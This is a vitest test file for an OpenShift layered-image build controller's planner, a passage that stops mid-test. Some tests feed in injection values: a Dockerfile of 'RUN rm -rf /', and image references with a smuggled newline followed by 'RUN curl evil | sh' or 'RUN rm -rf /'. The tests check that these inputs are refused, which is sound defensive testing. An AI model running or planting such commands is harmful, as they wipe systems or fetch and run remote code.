import { describe, expect, it } from 'vitest';
import { plan } from '../../src/plan/plan.ts';
import { ANNOTATION_NEWEST_IMAGE, ANNOTATION_NEWEST_IMAGE_CONFIG, ANNOTATION_NEWEST_IMAGE_SOURCE, ANNOTATION_REBUILD } from '../../src/plan/names.ts';
import { defaultCustomDockerfile } from '../../src/plan/dockerfile.ts';
import { CONFIG, NS, REG, World, digestOf, machineConfig, pool } from './plan-world.ts';

const P = 'worker';

function firstSetup(w: World, rendered = 'rendered-worker-1'): void {
  w.machineConfigs.set(rendered, machineConfig(rendered));
  w.pools.set(P, pool(P, { rendered }));
}

describe('plan: first pass for a new pool (exact objects)', () => {
  it('creates the seven streams, the custom BuildConfig, the status object, and pushes the rendered config', () => {
    const w = new World();
    firstSetup(w);
    const p = w.plan(P);
    expect(p.managed).toBe(true);
    // The rendered-config stream comes with the push: it is applied once the image is there.
    const applied = [...p.apply, ...(p.push?.stream ? [p.push.stream] : [])];
    const streams = applied.filter((o) => o.kind === 'ImageStream').map((o) => o.metadata.name).sort();
    expect(streams).toEqual(
      ['coreos', 'worker-base', 'worker-external-base', 'worker-mco-content', 'worker-mco-content-custom', 'worker-mco-content-external', 'worker-rendered-config'].sort(),
    );
    // coreos has imported nothing yet: the base has no tag to write (it is written by digest, never as coreos:latest).
    const base = p.apply.find((o) => o.metadata.name === 'worker-base')!;
    expect(base.spec).toEqual({ tags: [] });
    const coreos = p.apply.find((o) => o.metadata.name === 'coreos')!;
    expect(coreos.metadata.ownerReferences).toBeUndefined();
    expect((coreos.spec as { tags: { from: { name: string } }[] }).tags[0]!.from.name).toBe(w.baseOSImage);
    for (const o of applied.filter((o) => o.metadata.name.startsWith('worker'))) {
      expect(o.metadata.namespace).toBe(NS);
      expect(o.metadata.annotations).toEqual({ 'machineconfiguration.openshift.io/pool': P });
      expect(o.metadata.ownerReferences).toEqual([
        { apiVersion: 'machineconfiguration.openshift.io/v1', kind: 'MachineConfigPool', name: P, uid: 'uid-pool-worker', controller: true, blockOwnerDeletion: false },
      ]);
    }
    // The content BuildConfig is written once its Dockerfile is known (base and rendered config resolved), not as a placeholder first.
    const bcs = [...p.apply, ...p.create].filter((o) => o.kind === 'BuildConfig').map((o) => o.metadata.name).sort();
    expect(bcs).toEqual(['worker-build-mco-content-custom']);
    const custom = p.create.find((o) => o.metadata.name === 'worker-build-mco-content-custom')!;
    expect((custom.spec as { source: { dockerfile: string } }).source.dockerfile).toBe(defaultCustomDockerfile(P));
    expect((custom.spec as { triggers: unknown[] }).triggers).toEqual([]);
    expect(p.apply.find((o) => o.kind === 'LayeredPool')).toMatchObject({ metadata: { name: P, namespace: NS }, spec: { poolName: P } });
    expect(p.push?.renderedConfig).toBe('rendered-worker-1');
    expect(p.push?.repository).toBe(`${REG}/${NS}/worker-rendered-config`);
    // Pushed by tag (its content hash, then latest); the integrated registry records the tags: no spec tags.
    expect(p.push?.tags).toEqual([`sha256-${p.push!.image.manifestDigest.slice(7)}`, 'latest']);
    expect(p.apply.find((o) => o.metadata.name === 'worker-rendered-config')).toBeUndefined();
    expect(p.push?.stream?.spec).toEqual({ tags: [] });
    expect(p.createBuilds).toEqual([]);
    expect(p.status?.phase).toBe('Pending');
    expect(p.requeueAfterMs).toBeGreaterThan(0);
  });

  it('renders the dual-stage Dockerfile by digest and creates one Build named from the fingerprint', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.step(); // objects + push (recorded by the registry); the world then imports coreos
    w.step(); // <pool>-base written by digest; the world imports it
    w.step(); // the content BuildConfig, with its Dockerfile
    const p = w.plan(P);
    expect(p.createBuilds).toHaveLength(1);
    const b = p.createBuilds[0]!;
    const fp = b.metadata.annotations!['layering.mco.dev/fingerprint']!;
    expect(fp).toMatch(/^[0-9a-f]{64}$/);
    expect(b.metadata.name).toBe(`worker-build-mco-content-${fp.slice(0, 10)}-1`);
    expect(b.metadata.labels).toMatchObject({
      'openshift.io/build-config.name': 'worker-build-mco-content',
      buildconfig: 'worker-build-mco-content',
      'openshift.io/build.start-policy': 'Serial',
      'layering.mco.dev/fingerprint': fp.slice(0, 40),
      'layering.mco.dev/build-kind': 'content',
    });
    expect(b.metadata.annotations).toMatchObject({ 'openshift.io/build.number': '1', 'openshift.io/build-config.name': 'worker-build-mco-content' });
    expect(b.metadata.ownerReferences?.[0]).toMatchObject({ kind: 'BuildConfig', name: 'worker-build-mco-content' });
    const spec = b.spec as { source: { dockerfile: string }; output: { to: { name: string } } };
    const rcDigest = w.streams.get('worker-rendered-config')!.status!.tags!.find((t) => t.tag === 'latest')!.items![0]!.image;
    expect(spec.source.dockerfile).toBe(
      [
        '# Generated by layered-build-controller (content-v3); the operator owns this file.',
        `FROM ${REG}/${NS}/worker-rendered-config@${rcDigest} AS machineconfig`,
        '',
        `FROM ${w.baseOSImage}`,
        'COPY --from=machineconfig /machine-config.json /machine-config-ignition.json /etc/',
        'RUN ignition-apply /etc/machine-config-ignition.json',
        '',
      ].join('\n'),
    );
    expect(spec.output.to.name).toBe(`worker-mco-content:fp-${fp.slice(0, 20)}`);
    // On a node of the base's architecture, as OpenShift recorded it for worker-base@<digest> (read once).
    const baseDigest = w.streams.get('worker-base')!.status!.tags!.find((t) => t.tag === 'latest')!.items![0]!.image;
    expect(w.architecturesRead).toEqual([`worker-base@${baseDigest}`]);
    expect((b.spec as { nodeSelector?: unknown }).nodeSelector).toEqual({ 'kubernetes.io/arch': 'amd64' });
    // The same snapshot plans the same Build: a second replica would get AlreadyExists.
    expect(w.plan(P).createBuilds[0]!.metadata.name).toBe(b.metadata.name);
  });

  it('hands the pool the built image by digest, with its config and source', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.settle();
    const ann = w.pools.get(P)!.metadata.annotations!;
    expect(ann[ANNOTATION_NEWEST_IMAGE]).toMatch(new RegExp(`^${REG}/${NS}/worker-mco-content@sha256:[0-9a-f]{64}$`));
    expect(ann[ANNOTATION_NEWEST_IMAGE_CONFIG]).toBe('rendered-worker-1');
    expect(ann[ANNOTATION_NEWEST_IMAGE_SOURCE]).toBe('mco-content');
    const st = w.statuses.get(P)!.status!;
    expect(st.phase).toBe('Ready');
    expect(st.image).toBe(ann[ANNOTATION_NEWEST_IMAGE]);
    expect(st.conditions?.map((c) => [c.type, c.status])).toEqual([
      ['Ready', 'True'],
      ['Building', 'False'],
      ['Degraded', 'False'],
    ]);
    expect(st.conditions?.every((c) => c.observedGeneration === 1)).toBe(true);
    expect(st.history).toHaveLength(1);
    expect(st.history![0]).toMatchObject({ kind: 'content', result: 'Complete' });
    expect(w.events.some((e) => e.startsWith('BuildStarted'))).toBe(true);
    expect(w.events.some((e) => e.startsWith('BuildSucceeded'))).toBe(true);
    expect(w.events.filter((e) => e.startsWith('ImageHandedOff'))).toHaveLength(1);
    // A settled pool plans no writes that change anything.
    const p = w.plan(P);
    expect(p.createBuilds).toEqual([]);
    expect(p.poolApply).toBeUndefined();
    expect(p.status).toBeUndefined();
    expect(p.push).toBeUndefined();
  });
});

describe('S1 first setup with late imports', () => {
  it('coreos imported late and the rendered config after the base: exactly one content build, none failed', () => {
    const w = new World();
    w.pools.set(P, pool(P, { rendered: 'rendered-worker-1' })); // the MachineConfig does not exist yet
    w.importsEnabled = false; // coreos is not importable yet
    for (let i = 0; i < 5; i++) w.step();
    expect(w.buildsCreated).toEqual([]);
    w.importsEnabled = true; // coreos arrives
    for (let i = 0; i < 5; i++) w.step();
    expect(w.buildsCreated).toEqual([]);
    w.machineConfigs.set('rendered-worker-1', machineConfig('rendered-worker-1')); // then the rendered config
    w.settle();
    expect(w.buildsCreated).toHaveLength(1);
    expect(w.buildsOf().filter((b) => b.status?.phase === 'Failed')).toEqual([]);
    expect(w.poolImage(P)).toBeDefined();
    expect(w.pushes).toEqual(['rendered-worker-1']);
  });

  it('builds nothing while either input is unresolved, and says what it waits for', () => {
    const w = new World();
    w.baseOSImage = undefined;
    firstSetup(w);
    w.settle({ maxSteps: 20 });
    expect(w.buildsCreated).toEqual([]);
    const st = w.statuses.get(P)!.status!;
    expect(st.phase).toBe('Pending');
    expect(st.conditions![0]!.message).toMatch(/base OS image is unknown/);
  });

  it('does not poll a pool whose only wait is its running Build (the Build\'s watch events wake it)', () => {
    const w = new World({ debounceMs: 0 });
    w.outcome = () => 'hang';
    firstSetup(w);
    w.settle();
    expect(w.buildsOf('content').map((b) => b.status?.phase)).toEqual(['Running']);
    const p = w.plan(P);
    expect(p.status?.phase ?? w.statuses.get(P)?.status?.phase).toBe('Building');
    expect(p.requeueAfterMs).toBeUndefined();
  });

  it('two replicas planning the same snapshot create the same Build name (no second build)', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.step();
    w.step();
    w.step();
    const a = w.plan(P);
    const b = w.plan(P);
    w.apply(a);
    w.apply(b);
    expect(w.buildsCreated).toHaveLength(1);
  });

  it('debounces: a burst of changes within the window starts one build', () => {
    const w = new World({ debounceMs: 5000 });
    firstSetup(w);
    w.step(500);
    w.step(500);
    // Within the window an external base is tagged too (the tag cascade of first setup).
    w.adminTag('worker-external-base', 'latest', `${REG}/external/base@${digestOf('ext-1')}`);
    w.settle({ ms: 500 });
    expect(w.buildsCreated).toHaveLength(1);
    const b = w.buildsOf('content')[0]!;
    expect(b.spec?.source?.dockerfile).toContain(`FROM ${REG}/external/base@${digestOf('ext-1')}`);
  });
});

describe('S2 external base', () => {
  it('tagged: one rebuild on it; untagged: back to coreos, reusing the first image', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.settle();
    const first = w.poolImage(P);
    expect(w.buildsCreated).toHaveLength(1);
    w.adminTag('worker-external-base', 'latest', `${REG}/external/base@${digestOf('ext-1')}`);
    w.settle();
    expect(w.buildsCreated).toHaveLength(2);
    expect(w.buildsOf('content')[1]!.spec?.source?.dockerfile).toContain(`${REG}/external/base@${digestOf('ext-1')}`);
    const second = w.poolImage(P);
    expect(second).not.toBe(first);
    expect(w.statuses.get(P)!.status!.baseSource).toBe('external-base');
    w.adminUntag('worker-external-base', 'latest');
    w.settle();
    expect(w.buildsCreated).toHaveLength(2);
    expect(w.poolImage(P)).toBe(first);
    expect(w.statuses.get(P)!.status!.baseSource).toBe('coreos');
  });
});

describe('S3 MachineConfig change', () => {
  it('a new rendered config gives a new tag and one build; reverting reuses the first image', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.settle();
    const first = w.poolImage(P);
    w.machineConfigs.set('rendered-worker-2', machineConfig('rendered-worker-2', { '/etc/motd': 'changed' }));
    w.pools.get(P)!.spec = { ...w.pools.get(P)!.spec, configuration: { name: 'rendered-worker-2' } };
    w.settle();
    expect(w.buildsCreated).toHaveLength(2);
    const rc = w.streams.get('worker-rendered-config')!;
    expect(rc.spec?.tags ?? []).toEqual([]);
    const tags = (rc.status?.tags ?? []).map((t) => t.tag).sort();
    expect(tags).toHaveLength(3);
    expect(tags).toContain('latest');
    expect(tags.filter((t) => /^sha256-[0-9a-f]{64}$/.test(t))).toHaveLength(2);
    expect(w.pools.get(P)!.metadata.annotations![ANNOTATION_NEWEST_IMAGE_CONFIG]).toBe('rendered-worker-2');
    w.pools.get(P)!.spec = { ...w.pools.get(P)!.spec, configuration: { name: 'rendered-worker-1' } };
    w.settle();
    expect(w.buildsCreated).toHaveLength(2);
    expect(w.poolImage(P)).toBe(first);
    // Reverting moves only the `latest` tag back (the content tag is already there): no new image.
    expect(w.pushes).toEqual(['rendered-worker-1', 'rendered-worker-2', 'rendered-worker-1']);
    expect(w.registry.get(`${REG}/${NS}/worker-rendered-config:latest`)).toBe(w.streams.get('worker-rendered-config')!.status!.tags!.find((t) => t.tag === 'latest')!.items![0]!.image);
  });

  it('the rendered-config image digest ignores volatile metadata', () => {
    const w = new World();
    firstSetup(w);
    const d1 = w.plan(P).push!.image.manifestDigest;
    const mc = w.machineConfigs.get('rendered-worker-1')!;
    mc.metadata.resourceVersion = '999';
    mc.metadata.uid = 'other';
    expect(w.plan(P).push!.image.manifestDigest).toBe(d1);
  });
});

describe('builds run on nodes of the base\'s architecture', () => {
  it('asks the I/O layer for the base\'s architecture only when a Build is about to start, and holds the Build until it is known', () => {
    const w = new World({ debounceMs: 0 });
    w.architectureOf = () => 'arm64';
    firstSetup(w);
    const seen: { read: boolean; builds: number }[] = [];
    for (let i = 0; i < 10 && w.buildsCreated.length === 0; i++) {
      const p = plan(w.snapshot(P)); // the planner alone: nothing read yet
      seen.push({ read: p.readBaseArchitecture !== undefined, builds: p.createBuilds.length });
      if (p.readBaseArchitecture) {
        const baseDigest = w.streams.get('worker-base')!.status!.tags!.find((t) => t.tag === 'latest')!.items![0]!.image;
        expect(p.readBaseArchitecture).toEqual({ stream: 'worker-base', digest: baseDigest });
        expect(p.status?.buildAttempts?.map((r) => r.lastAttempt)).toEqual([0]); // a Build not created is no attempt
      }
      w.step();
    }
    // Asked only in the plan that would start the Build, which then waits for it; no plan before asked.
    expect(seen.filter((x) => x.read)).toEqual([{ read: true, builds: 0 }]);
    expect(seen.findIndex((x) => x.read)).toBe(seen.length - 1); // and the world's step, which read it, created the Build
    expect((w.buildsOf('content')[0]!.spec as { nodeSelector?: unknown }).nodeSelector).toEqual({ 'kubernetes.io/arch': 'arm64' });
    // Idle: nothing more to read.
    w.settle();
    expect(plan(w.snapshot(P)).readBaseArchitecture).toBeUndefined();
    expect(w.architecturesRead).toHaveLength(1);
  });

  it('the architecture OpenShift records is the Builds\' nodeSelector; an image that records none gets none', () => {
    const w = new World({ debounceMs: 0 });
    w.architectureOf = () => 'arm64';
    firstSetup(w);
    w.settle();
    expect((w.buildsOf('content')[0]!.spec as { nodeSelector?: unknown }).nodeSelector).toEqual({ 'kubernetes.io/arch': 'arm64' });
    const none = new World({ debounceMs: 0 });
    none.architectureOf = () => '';
    firstSetup(none);
    none.settle();
    expect(none.buildsOf('content')).toHaveLength(1);
    expect((none.buildsOf('content')[0]!.spec as { nodeSelector?: unknown }).nodeSelector).toBeUndefined();
    expect(none.architecturesRead).toHaveLength(1); // '' is remembered: read once
  });
});

describe('S4 custom Dockerfile', () => {
  it('an edited Dockerfile builds from the newest mco-content; the pool switches; an mco-content change rebuilds custom', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.settle();
    const contentImage = w.poolImage(P)!;
    const bc = w.buildConfigs.get('worker-build-mco-content-custom')!;
    bc.spec!.source!.dockerfile = 'FROM worker-mco-content:latest\nRUN echo custom > /etc/custom\n';
    w.settle();
    const customs = w.buildsOf('custom');
    expect(customs).toHaveLength(1);
    expect(customs[0]!.spec?.strategy?.dockerStrategy?.from).toEqual({ kind: 'DockerImage', name: contentImage });
    // FROM the content image, so on a node of the base's architecture too.
    expect((customs[0]!.spec as { nodeSelector?: unknown }).nodeSelector).toEqual({ 'kubernetes.io/arch': 'amd64' });
    expect(w.pools.get(P)!.metadata.annotations![ANNOTATION_NEWEST_IMAGE_SOURCE]).toBe('custom');
    expect(w.poolImage(P)).toMatch(new RegExp(`^${REG}/${NS}/worker-mco-content-custom@sha256:`));
    // The content changes: content rebuilds, then custom rebuilds from it.
    w.machineConfigs.set('rendered-worker-2', machineConfig('rendered-worker-2', { '/etc/motd': 'v2' }));
    w.pools.get(P)!.spec = { ...w.pools.get(P)!.spec, configuration: { name: 'rendered-worker-2' } };
    w.settle();
    expect(w.buildsOf('content')).toHaveLength(2);
    expect(w.buildsOf('custom')).toHaveLength(2);
    const newContent = w.buildsOf('content')[1]!;
    expect(w.buildsOf('custom')[1]!.spec?.strategy?.dockerStrategy?.from?.name).toBe(
      `${REG}/${NS}/worker-mco-content@${newContent.status!.output!.to!.imageDigest}`,
    );
    expect(w.pools.get(P)!.metadata.annotations![ANNOTATION_NEWEST_IMAGE_SOURCE]).toBe('custom');
    // Reverting the Dockerfile to the default falls back to mco-content.
    w.buildConfigs.get('worker-build-mco-content-custom')!.spec!.source!.dockerfile = defaultCustomDockerfile(P);
    w.settle();
    expect(w.pools.get(P)!.metadata.annotations![ANNOTATION_NEWEST_IMAGE_SOURCE]).toBe('mco-content');
    expect(w.buildsOf('custom')).toHaveLength(2);
  });

  it('a custom Dockerfile without FROM is refused before building', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.settle();
    w.buildConfigs.get('worker-build-mco-content-custom')!.spec!.source!.dockerfile = 'RUN rm -rf /\n';
    w.settle();
    expect(w.buildsOf('custom')).toHaveLength(0);
    const st = w.statuses.get(P)!.status!;
    expect(st.phase).toBe('Degraded');
    expect(st.conditions!.find((c) => c.type === 'Degraded')).toMatchObject({ status: 'True', reason: 'InvalidCustomDockerfile' });
    expect(st.image).toBe(w.poolImage(P));
  });
});

describe('S5 external content', () => {
  it('tagged: the pool switches with no build; untagged: falls back', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.settle();
    const content = w.poolImage(P);
    const ext = `${REG}/external/content@${digestOf('content-ext')}`;
    w.adminTag('worker-mco-content-external', 'latest', ext);
    w.settle();
    expect(w.buildsCreated).toHaveLength(1);
    expect(w.poolImage(P)).toBe(ext);
    expect(w.pools.get(P)!.metadata.annotations![ANNOTATION_NEWEST_IMAGE_SOURCE]).toBe('external');
    w.adminUntag('worker-mco-content-external', 'latest');
    w.settle();
    expect(w.poolImage(P)).toBe(content);
    expect(w.buildsCreated).toHaveLength(1);
  });
});

describe('S6 inputs change while a build runs', () => {
  it('cancels the stale build and builds exactly once for the newest inputs', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    let hang = true;
    w.outcome = (b) => (hang || b.metadata.name === w.buildsCreated[0] ? 'hang' : 'complete');
    w.settle({ maxSteps: 10 });
    expect(w.buildsCreated).toHaveLength(1);
    const stale = w.buildsCreated[0]!;
    expect(w.builds.get(stale)!.status?.phase).toBe('Running');
    expect(w.statuses.get(P)!.status!.phase).toBe('Building');
    w.machineConfigs.set('rendered-worker-2', machineConfig('rendered-worker-2', { '/etc/motd': 'v2' }));
    w.pools.get(P)!.spec = { ...w.pools.get(P)!.spec, configuration: { name: 'rendered-worker-2' } };
    hang = false;
    // The world does not cancel on its own: only the operator's cancel does.
    w.settle();
    expect(w.cancelled).toEqual([stale]);
    expect(w.builds.get(stale)!.status?.phase).toBe('Cancelled');
    expect(w.buildsCreated).toHaveLength(2);
    expect(w.poolImage(P)).toContain(w.builds.get(w.buildsCreated[1]!)!.status!.output!.to!.imageDigest!);
    expect(w.events.some((e) => e.startsWith('BuildCancelled'))).toBe(true);
  });

  it('never has two active content builds at once', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.outcome = () => 'hang';
    w.settle({ maxSteps: 5 });
    w.machineConfigs.set('rendered-worker-2', machineConfig('rendered-worker-2', { '/etc/a': 'b' }));
    w.pools.get(P)!.spec = { ...w.pools.get(P)!.spec, configuration: { name: 'rendered-worker-2' } };
    // The stale build is slow to stop: no new build until it has.
    const stale = w.buildsCreated[0]!;
    for (let i = 0; i < 5; i++) {
      w.apply(w.plan(P));
      w.importAll();
      w.now += 1000;
      const active = w.buildsOf('content').filter((b) => ['New', 'Pending', 'Running', undefined].includes(b.status?.phase));
      expect(active.length).toBeLessThanOrEqual(1);
    }
    expect(w.builds.get(stale)!.status?.cancelled).toBe(true);
    expect(w.buildsCreated).toHaveLength(1);
  });
});

describe('S7 a build fails', () => {
  it('keeps the previous image, Degraded with the reason, bounded retries, cleared by new inputs', () => {
    const w = new World({ debounceMs: 0, retryLimit: 3, retryBackoffMs: 10_000 });
    firstSetup(w);
    w.settle();
    const good = w.poolImage(P);
    w.outcome = () => 'fail';
    w.machineConfigs.set('rendered-worker-2', machineConfig('rendered-worker-2', { '/etc/motd': 'broken' }));
    w.pools.get(P)!.spec = { ...w.pools.get(P)!.spec, configuration: { name: 'rendered-worker-2' } };
    w.settle({ maxSteps: 300, ms: 5000 });
    const failed = w.buildsOf('content').filter((b) => b.status?.phase === 'Failed');
    expect(failed).toHaveLength(3); // --retry-limit 3: three attempts in all
    expect(w.poolImage(P)).toBe(good);
    const st = w.statuses.get(P)!.status!;
    expect(st.phase).toBe('Degraded');
    const degraded = st.conditions!.find((c) => c.type === 'Degraded')!;
    expect(degraded.reason).toBe('BuildFailed');
    expect(degraded.message).toContain('DockerBuildFailed');
    expect(degraded.message).toContain('error: no such file');
    expect(degraded.message).toContain(ANNOTATION_REBUILD);
    expect(st.image).toBe(good);
    expect(w.events.filter((e) => e.startsWith('BuildFailed'))).toHaveLength(3);
    // Retries were spaced by the backoff.
    const starts = failed.map((b) => Date.parse(String(b.metadata.creationTimestamp))).sort();
    expect(starts[1]! - starts[0]!).toBeGreaterThanOrEqual(10_000);
    expect(starts[2]! - starts[1]!).toBeGreaterThanOrEqual(20_000);
    // New inputs clear it.
    w.outcome = () => 'complete';
    w.machineConfigs.set('rendered-worker-3', machineConfig('rendered-worker-3', { '/etc/motd': 'fixed' }));
    w.pools.get(P)!.spec = { ...w.pools.get(P)!.spec, configuration: { name: 'rendered-worker-3' } };
    w.settle();
    expect(w.statuses.get(P)!.status!.phase).toBe('Ready');
    expect(w.poolImage(P)).not.toBe(good);
  });

  it('a rebuild request retries a fingerprint that gave up', () => {
    const w = new World({ debounceMs: 0, retryLimit: 1 });
    firstSetup(w);
    w.outcome = () => 'fail';
    w.settle();
    expect(w.buildsCreated).toHaveLength(1);
    expect(w.statuses.get(P)!.status!.phase).toBe('Degraded');
    w.outcome = () => 'complete';
    w.pools.get(P)!.metadata.annotations![ANNOTATION_REBUILD] = 'try-2';
    w.settle();
    expect(w.buildsCreated).toHaveLength(2);
    expect(w.buildsCreated[1]).toMatch(/-2$/);
    expect(w.statuses.get(P)!.status!.phase).toBe('Ready');
  });
});

describe('S8 restart mid-build', () => {
  it('a fresh planner over the same state adopts the running build', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.outcome = () => 'hang';
    w.settle({ maxSteps: 10 });
    expect(w.buildsCreated).toHaveLength(1);
    // "Restart": nothing but the cluster's state survives; plan again from it.
    const p = plan(w.snapshot(P));
    expect(p.createBuilds).toEqual([]);
    expect(p.cancelBuilds).toEqual([]);
    w.outcome = () => 'complete';
    w.settle();
    expect(w.buildsCreated).toHaveLength(1);
    expect(w.poolImage(P)).toBeDefined();
  });

  it('a restart after the status object was lost still builds nothing new', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.settle();
    w.statuses.clear();
    w.settle();
    expect(w.buildsCreated).toHaveLength(1);
  });
});

describe('S9 pool unlabelled or deleted', () => {
  it('unlabelled: management stops, nothing is deleted, the status says so', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.settle();
    const image = w.poolImage(P);
    w.pools.get(P)!.metadata.labels = {};
    const p = w.plan(P);
    expect(p.managed).toBe(false);
    expect(p.apply).toEqual([]);
    expect(p.createBuilds).toEqual([]);
    expect(p.poolApply).toBeUndefined();
    expect(p.status?.phase).toBe('Unmanaged');
    w.apply(p);
    expect(w.plan(P).status).toBeUndefined(); // said once
    expect(w.poolImage(P)).toBe(image);
  });

  it('deleted or deleting: nothing is written', () => {
    const w = new World();
    firstSetup(w);
    w.pools.get(P)!.metadata.deletionTimestamp = new Date().toISOString();
    const p = w.plan(P);
    expect(p).toMatchObject({ managed: false, apply: [], create: [], createBuilds: [], cancelBuilds: [], events: [] });
    w.pools.delete(P);
    expect(plan(w.snapshot(P)).managed).toBe(false);
  });

  it('a label value of "false" does not opt in', () => {
    const w = new World();
    w.pools.set(P, pool(P, { rendered: 'x' }));
    w.pools.get(P)!.metadata.labels = { [CONFIG.optInLabel]: 'false' };
    expect(w.plan(P).managed).toBe(false);
  });
});

describe('S10 bad input', () => {
  it('invalid Ignition: Degraded InvalidMachineConfig, nothing pushed, the last image kept', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.settle();
    const good = w.poolImage(P);
    const bad = machineConfig('rendered-worker-2');
    (bad.spec as { config: unknown }).config = { ignition: { version: '2.2.0' } };
    w.machineConfigs.set('rendered-worker-2', bad);
    w.pools.get(P)!.spec = { ...w.pools.get(P)!.spec, configuration: { name: 'rendered-worker-2' } };
    w.settle();
    expect(w.pushes).toEqual(['rendered-worker-1']);
    expect(w.poolImage(P)).toBe(good);
    const st = w.statuses.get(P)!.status!;
    expect(st.conditions!.find((c) => c.type === 'Degraded')).toMatchObject({ status: 'True', reason: 'InvalidMachineConfig' });
    expect(st.message).toMatch(/ignition\.version/);
  });

  it('a malicious external image reference is refused with a clear condition', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.settle();
    const good = w.poolImage(P);
    const s = w.streams.get('worker-mco-content-external')!;
    s.status = {
      tags: [{ tag: 'latest', items: [{ dockerImageReference: `${REG}/x/y@${digestOf('z')}\nRUN curl evil | sh`, image: digestOf('z') }] }],
    };
    const p = w.plan(P);
    expect(p.poolApply).toBeUndefined();
    expect(p.status?.conditions?.find((c) => c.type === 'Degraded')).toMatchObject({ status: 'True', reason: 'InvalidImageReference' });
    expect(p.status?.conditions?.find((c) => c.type === 'Degraded')?.message).toMatch(/no whitespace, newlines/);
    w.apply(p);
    expect(w.poolImage(P)).toBe(good);
  });

  it('a malicious base image in ControllerConfig never reaches a Dockerfile', () => {
    const w = new World({ debounceMs: 0 });
    w.baseOSImage = `quay.io/x/y@${digestOf('a')}\nRUN rm -rf /`;
    firstSetup(w);
    w.settle({ maxSteps: 20 });
    expect(w.buildsCreated).toEqual([]);
    expect(w.statuses.get(P)!.status!.conditions!.find((c) => c.type === 'Degraded')).toMatchObject({ status: 'True', reason: 'InvalidImageReference' });
  });

  it('an external base or content that cannot be imported: Degraded ImportFailed naming it; the pool keeps its image', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.settle();
    const good = w.poolImage(P);
    const missing = `${REG}/external/nothing@${digestOf('missing')}`;
    w.adminTag('worker-external-base', 'latest', missing, { inRegistry: false });
    w.settle();
    let st = w.statuses.get(P)!.status!;
    expect(st.conditions!.find((c) => c.type === 'Degraded')).toMatchObject({ status: 'True', reason: 'ImportFailed' });
    expect(st.message).toContain(`could not import ${missing}`);
    expect(st.message).toContain('oc tag -d');
    expect(st.baseSource).toBe('coreos');
    expect(w.poolImage(P)).toBe(good);
    expect(w.buildsCreated).toHaveLength(1);
    w.adminUntag('worker-external-base', 'latest');
    w.adminTag('worker-mco-content-external', 'latest', missing, { inRegistry: false });
    w.settle();
    st = w.statuses.get(P)!.status!;
    expect(st.conditions!.find((c) => c.type === 'Degraded')).toMatchObject({ status: 'True', reason: 'ImportFailed' });
    expect(st.message).toContain('worker-mco-content-external');
    expect(w.poolImage(P)).toBe(good);
  });

  it('a missing push secret: Degraded PushSecretMissing, nothing pushed', () => {
    const w = new World({ debounceMs: 0, pushSecret: 'builder-push' });
    w.pushSecretFound = false;
    firstSetup(w);
    w.settle({ maxSteps: 20 });
    expect(w.pushes).toEqual([]);
    const d = w.statuses.get(P)!.status!.conditions!.find((c) => c.type === 'Degraded')!;
    expect(d).toMatchObject({ status: 'True', reason: 'PushSecretMissing' });
    expect(d.message).toContain(`${NS}/builder-push`);
    w.pushSecretFound = true;
    w.settle();
    expect(w.poolImage(P)).toBeDefined();
    expect(w.buildsOf('content')[0]!.spec?.output?.pushSecret).toEqual({ name: 'builder-push' });
  });

  it('an object of the same name that is not ours is not touched', () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.streams.set('worker-base', { metadata: { name: 'worker-base', annotations: {} }, spec: { tags: [] } });
    const p = w.plan(P);
    expect(p.apply.find((o) => o.metadata.name === 'worker-base')).toBeUndefined();
    expect(p.status?.conditions?.find((c) => c.type === 'Degraded')).toMatchObject({ status: 'True', reason: 'ObjectConflict' });
  });
});

describe("plan: what MCO reports about the pool's rendering reaches the status", () => {
  const ready = () => {
    const w = new World({ debounceMs: 0 });
    firstSetup(w);
    w.settle();
    expect(w.statuses.get(P)!.status!.phase).toBe('Ready');
    return w;
  };
  const degradedOf = (w: World) => w.statuses.get(P)!.status!.conditions!.find((c) => c.type === 'Degraded')!;

  it('RenderDegraded on the pool: Degraded with MCC message and what to do, the image stays, nothing is built', () => {
    const w = ready();
    const image = w.handoffImage(P);
    const builds = w.buildsCreated.length;
    w.pools.get(P)!.status = {
      ...w.pools.get(P)!.status,
      conditions: [{ type: 'RenderDegraded', status: 'True', reason: '', message: 'Failed to render configuration for pool worker: parsing Ignition config failed: unknown version' }],
    };
    w.settle();
    const st = w.statuses.get(P)!.status!;
    expect(st.phase).toBe('Degraded');
    expect(degradedOf(w)).toMatchObject({ status: 'True', reason: 'RenderDegraded' });
    expect(st.message).toContain('the machine-config-controller cannot render pool worker: Failed to render configuration for pool worker: parsing Ignition config failed: unknown version');
    expect(st.message).toContain('oc describe mcp/worker');
    expect(st.image).toBe(image);
    expect(w.handoffImage(P)).toBe(image);
    expect(w.buildsCreated).toHaveLength(builds);
    // MCC renders again: Ready.
    w.pools.get(P)!.status!.conditions = [{ type: 'RenderDegraded', status: 'False', reason: '', message: '' }];
    w.settle();
    expect(w.statuses.get(P)!.status!.phase).toBe('Ready');
  });

  it('RenderDegraded older than the rendering the pool names is MCC\'s status not yet written: not Degraded', () => {
    const w = ready();
    const rendered = w.pools.get(P)!.spec!.configuration!.name!;
    const renderedAt = Date.parse('2026-01-01T00:00:10Z');
    w.machineConfigs.get(rendered)!.metadata.creationTimestamp = new Date(renderedAt).toISOString();
    const failed = (at: number) => [{ type: 'RenderDegraded', status: 'True', reason: '', message: 'Failed to render configuration for pool worker: no MachineConfigs', lastTransitionTime: new Date(at).toISOString() }];
    // It failed before the pool had MachineConfigs; MCC has rendered since (spec written, status not yet).
